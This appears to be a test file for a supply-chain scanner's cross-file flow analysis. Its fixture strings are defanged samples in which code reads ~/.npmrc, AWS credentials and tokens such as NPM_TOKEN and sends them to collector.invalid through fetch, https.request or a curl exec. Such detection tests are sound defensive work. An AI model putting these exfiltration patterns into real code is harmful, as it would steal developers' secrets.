// biome-ignore-all lint/suspicious/noTemplateCurlyInString: JavaScript and TypeScript sources under test
import { describe, expect, it } from 'vitest';
import type { CodeFact } from '../types.js';
import { createCrossFilePass, resolveRelative } from './cross-file.js';
import { extractFileFacts } from './extract-file.js';

type Flow = Extract<CodeFact, { kind: 'flow' }>;

/** Cross-file flows of a package given as path → text (defanged: .invalid hosts, nothing runs). */
const crossFlows = (files: Record<string, string>): Flow[] => {
  const pass = createCrossFilePass();
  for (const [file, text] of Object.entries(files)) pass.add(file, extractFileFacts(file, text));
  return pass.flows((file) => files[file] ?? '') as Flow[];
};

const ends = (flow: Flow | undefined) => ({
  from: flow && `${flow.from.at.file}:${flow.from.at.line}`,
  to: flow && `${flow.to.at.file}:${flow.to.at.line}`,
  api: flow?.to.kind === 'call' ? flow.to.api : undefined,
});

const collectNpmrc = [
  "const fs = require('fs');",
  "const os = require('os');",
  "const path = require('path');",
  'function collect() {',
  "  return fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
  '}',
  'module.exports = collect;',
].join('\n');

describe('cross-file flows', () => {
  it('follows a credential read exported as a function to the file that posts it', () => {
    const flows = crossFlows({
      'lib/collect.js': collectNpmrc,
      'index.js': [
        "const collect = require('./lib/collect');",
        'const data = collect();',
        "fetch('https://collector.invalid/u', { method: 'POST', body: data });",
      ].join('\n'),
    });
    expect(flows.map(ends)).toContainEqual({ from: 'lib/collect.js:5', to: 'index.js:3', api: 'fetch' });
    expect(flows[0]?.from).toMatchObject({ kind: 'call', api: 'fs.readFileSync' });
    expect(flows[0]?.at.file).toBe('index.js');
  });

  it('follows an exported value, a named export, and a destructured require', () => {
    const flows = crossFlows({
      'env.js': 'module.exports = JSON.stringify(process.env);',
      'keys.js': "exports.token = process.env.NPM_TOKEN;\nexports.version = '1.0.0';",
      'send.js': [
        "const https = require('https');",
        "const dump = require('./env.js');",
        "const { token } = require('./keys');",
        "const req = https.request({ host: 'collector.invalid', method: 'POST' });",
        'req.write(dump);',
        "fetch('https://collector.invalid/t?k=' + token);",
      ].join('\n'),
    });
    const found = flows.map(ends);
    expect(found).toContainEqual({ from: 'env.js:1', to: 'send.js:5', api: 'https.request().write' });
    expect(found).toContainEqual({ from: 'keys.js:1', to: 'send.js:6', api: 'fetch' });
    expect(flows.find((f) => f.from.at.file === 'env.js')?.from).toMatchObject({
      kind: 'env-read',
      key: '*',
    });
  });

  it('reads ESM and TypeScript imports, `./x.js` meaning `./x.ts`', () => {
    const flows = crossFlows({
      'src/collect.ts': [
        "import { homedir } from 'node:os';",
        "import { readFileSync } from 'node:fs';",
        'export function collect(): string {',
        "  return readFileSync(`${homedir()}/.aws/credentials`, 'utf8') as string;",
        '}',
      ].join('\n'),
      'src/index.ts': [
        "import { collect } from './collect.js';",
        'export async function sync(): Promise<void> {',
        "  await fetch('https://collector.invalid/c', { method: 'POST', body: collect() });",
        '}',
      ].join('\n'),
    });
    expect(flows.map(ends)).toContainEqual({ from: 'src/collect.ts:4', to: 'src/index.ts:3', api: 'fetch' });
  });

  it('follows re-exports (`module.exports = require`, `export *`, tsc __exportStar)', () => {
    const sender = (specifier: string) =>
      `const lib = require('${specifier}');\nfetch('https://collector.invalid/', { method: 'POST', body: lib.collect() });`;
    const collect = 'exports.collect = () => JSON.stringify(process.env);';
    for (const reexport of [
      "module.exports = require('./collect');",
      "export * from './collect.js';",
      '"use strict";\nconst tslib_1 = require("tslib");\ntslib_1.__exportStar(require("./collect"), exports);',
    ]) {
      const flows = crossFlows({
        'lib/collect.js': collect,
        'lib/index.js': reexport,
        'main.js': sender('./lib'),
      });
      expect(flows.map(ends), reexport).toContainEqual({
        from: 'lib/collect.js:1',
        to: 'main.js:2',
        api: 'fetch',
      });
    }
  });

  it('follows a source through a wrapper module (a second round)', () => {
    const flows = crossFlows({
      'a.js': collectNpmrc,
      'b.js': "const a = require('./a');\nexports.read = function read() { return a(); };",
      'c.js':
        "const { read } = require('./b');\nrequire('child_process').exec('curl -d ' + read() + ' collector.invalid');",
    });
    expect(flows.map(ends)).toContainEqual({ from: 'a.js:5', to: 'c.js:2', api: 'child_process.exec' });
  });

  it('adds nothing for a config loader and a logger (the benign twin)', () => {
    const flows = crossFlows({
      'lib/config.js': [
        "const fs = require('fs');",
        "const text = fs.existsSync('.env') ? fs.readFileSync('.env', 'utf8') : '';",
        'const port = Number(process.env.PORT || 3000);',
        'module.exports = { port, env: text.split("\\n"), load: () => text };',
      ].join('\n'),
      'lib/logger.js':
        "const config = require('./config');\nmodule.exports = (msg) => console.log(`[${config.port}] ${msg}`);",
      'index.js': [
        "const log = require('./lib/logger');",
        "const config = require('./lib/config');",
        "const http = require('http');",
        "http.createServer((req, res) => res.end('ok')).listen(config.port);",
        "log('started with ' + config.load().length + ' bytes of settings');",
      ].join('\n'),
    });
    expect(flows).toEqual([]);
  });

  it('carries credential-named variables across files, not every setting', () => {
    const flows = crossFlows({
      'config.js':
        'module.exports = { url: process.env.API_URL, port: process.env.PORT, token: process.env.API_TOKEN };',
      'client.js': [
        "const config = require('./config');",
        'fetch(config.url);',
        "fetch('https://collector.invalid/', { headers: { authorization: config.token } });",
      ].join('\n'),
    });
    expect(flows.map(ends)).toEqual([{ from: 'config.js:1', to: 'client.js:3', api: 'fetch' }]);
    expect(flows[0]?.from).toMatchObject({ kind: 'env-read', key: 'API_TOKEN' });
  });

  it('ignores package imports, files outside the package, and import cycles', () => {
    expect(
      crossFlows({
        'index.js':
          "const c = require('collect');\nconst d = require('../../collect');\nfetch('https://x.invalid', { body: c() + d() });",
      }),
    ).toEqual([]);
    const cyclic = crossFlows({
      'a.js':
        "const b = require('./b');\nmodule.exports = () => process.env.GH_TOKEN;\nfetch('https://x.invalid', { body: b.get() });",
      'b.js': "const a = require('./a');\nexports.get = () => a();",
    });
    expect(cyclic.map(ends)).toContainEqual({ from: 'a.js:2', to: 'a.js:3', api: 'fetch' });
  });
});

describe('cross-file bounds', () => {
  it('walks nothing again once the package deadline has passed', () => {
    const files: Record<string, string> = {
      'lib/collect.js': collectNpmrc,
      'index.js': "const c = require('./lib/collect');\nfetch('https://collector.invalid/', { body: c() });",
    };
    const pass = createCrossFilePass();
    for (const [file, text] of Object.entries(files)) pass.add(file, extractFileFacts(file, text));
    expect(pass.flows((file) => files[file] ?? '', performance.now() - 1)).toEqual([]);
    expect(pass.stats.walks).toBe(0);
    const flows = pass.flows((file) => files[file] ?? '') as Flow[];
    expect(flows.map((f) => f.from.kind === 'call' && f.from.api)).toContain('fs.readFileSync');
  });

  it('ends on re-export cycles and caps walks and flows on a package of many importers', () => {
    expect(
      crossFlows({
        'a.js': "module.exports = require('./b');",
        'b.js': "module.exports = require('./a');",
        'c.js': "const a = require('./a');\nfetch('https://x.invalid', { body: a.token });",
      }),
    ).toEqual([]);
    const files: Record<string, string> = { 'secret.js': 'module.exports = process.env.NPM_TOKEN;' };
    for (let i = 0; i < 300; i++)
      files[`send${i}.js`] = "const t = require('./secret');\nfetch('https://x.invalid', { body: t });";
    const started = Date.now();
    const flows = crossFlows(files);
    expect(flows).toHaveLength(100);
    expect(new Set(flows.map((f) => f.to.at.file)).size).toBe(100);
    expect(Date.now() - started).toBeLessThan(20_000);
  });
});

describe('resolveRelative', () => {
  const files = new Set([
    'index.js',
    'lib/a.js',
    'lib/b/index.ts',
    'lib/c.cjs',
    'src/d.ts',
    'src/e.mts',
    'x.json',
  ]);
  const has = (file: string) => files.has(file);
  it('resolves like Node within the package', () => {
    expect(resolveRelative('index.js', './lib/a', has)).toBe('lib/a.js');
    expect(resolveRelative('index.js', './lib/a.js', has)).toBe('lib/a.js');
    expect(resolveRelative('index.js', './lib/b', has)).toBe('lib/b/index.ts');
    expect(resolveRelative('index.js', './lib/b/', has)).toBe('lib/b/index.ts');
    expect(resolveRelative('lib/a.js', './c', has)).toBe('lib/c.cjs');
    expect(resolveRelative('lib/a.js', '..', has)).toBe('index.js');
    expect(resolveRelative('src/index.ts', './d.js', has)).toBe('src/d.ts');
    expect(resolveRelative('src/index.ts', './e.mjs', has)).toBe('src/e.mts');
  });
  it('refuses what leaves the package or is not there', () => {
    expect(resolveRelative('index.js', '../index.js', has)).toBeUndefined();
    expect(resolveRelative('lib/a.js', '../../etc/passwd', has)).toBeUndefined();
    expect(resolveRelative('index.js', './missing', has)).toBeUndefined();
    expect(resolveRelative('index.js', 'lib/a', has)).toBeUndefined();
  });
});
